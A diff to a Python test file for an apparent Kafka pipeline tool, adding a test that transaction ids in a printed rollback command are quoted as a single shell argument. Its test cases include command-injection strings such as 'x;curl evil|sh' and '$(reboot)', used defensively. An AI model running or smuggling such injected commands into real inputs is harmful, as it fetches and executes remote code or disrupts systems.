@@ -1,11 +1,13 @@
 """What an operator sends by hand is signed as the job wants it, or not sent at all."""
 
+import shlex
+
 import pytest
 from pyspark.sql import Row
 
 from halfway.conf.loader import load_settings
 from halfway.pipelines.operate.replay import next_half
-from halfway.pipelines.operate.settle import Target, settle
+from halfway.pipelines.operate.settle import Target, argument_of, settle
 from halfway.schemas.errors import SettingsError
 from halfway.schemas.headers import LocalTransactionState
 
@@ -35,3 +37,11 @@ def test_a_half_of_before_1970_is_resent_without_a_time_that_no_header_can_say()
     kafka = load_settings(environ={}).kafka
     headers = dict(next_half(Row(**row, queue_id=0, tags=None, keys=None, born_at_ms=-1), kafka, 2))
     assert (headers["INCARNATION"], headers.get("BORN_TIMESTAMP")) == (b"1", None)
+
+
+@pytest.mark.parametrize("transaction_id", ["order-17", "x;curl evil|sh", "$(reboot)", "it's", "-x", "--all", "a b"])
+def test_a_command_that_is_printed_to_be_copied_has_the_id_as_one_argument(transaction_id: str) -> None:
+    """Anyone with the right to write to a topic has chosen it."""
+    words = shlex.split(f"halfway rollback {argument_of(transaction_id)}")
+    assert words[-1] == transaction_id
+    assert words[2:-1] == (["--"] if transaction_id.startswith("-") else [])
